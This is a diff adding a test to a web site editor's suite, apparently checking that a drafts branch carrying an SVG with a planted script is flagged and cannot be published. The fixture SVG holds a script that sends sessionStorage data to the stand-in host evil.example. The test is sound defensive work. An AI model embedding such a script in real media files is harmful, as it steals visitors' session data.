@@ -355,4 +355,29 @@ describe('the editor from the browser, on GitHub', () => {
     );
     expect(git(shared().remote, 'rev-parse', DRAFTS)).toBe(drafts);
   });
+
+  it('refuses to publish a drawing with a script planted on the drafts, in the checker’s words, writing nothing', async () => {
+    const { teammate } = shared();
+    git(teammate, 'fetch', '--quiet');
+    git(teammate, 'checkout', '--quiet', '-B', 'planted', `origin/${DRAFTS}`);
+    writeFileSync(
+      join(teammate, 'public/media/badge.svg'),
+      '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?t=" + sessionStorage.key(0))</script></svg>\n',
+    );
+    editJsonFile(teammate, HOME, (home) => (home.sections[0].video.poster = '/media/badge.svg'));
+    git(teammate, 'add', '-A');
+    git(teammate, '-c', 'user.name=Mallory', '-c', 'user.email=m@example.org', 'commit', '--quiet', '-m', 'A badge');
+    git(teammate, 'push', '--quiet', 'origin', `planted:${DRAFTS}`);
+
+    const editor = await backend();
+    const main = git(shared().remote, 'rev-parse', 'main');
+    expect((await editor.checkChanges([])).problems).toContainEqual(
+      expect.objectContaining({ file: 'public/media/badge.svg', severity: 'error' }),
+    );
+    const answer = await editor.publish({ leaveOut: [], removeMedia: [], message: 'A badge' });
+    expect(
+      !isRefusal(answer) && answer.status === 'invalid' && answer.problems.map((problem) => problem.file),
+    ).toContain('public/media/badge.svg');
+    expect(git(shared().remote, 'rev-parse', 'main')).toBe(main);
+  });
 });
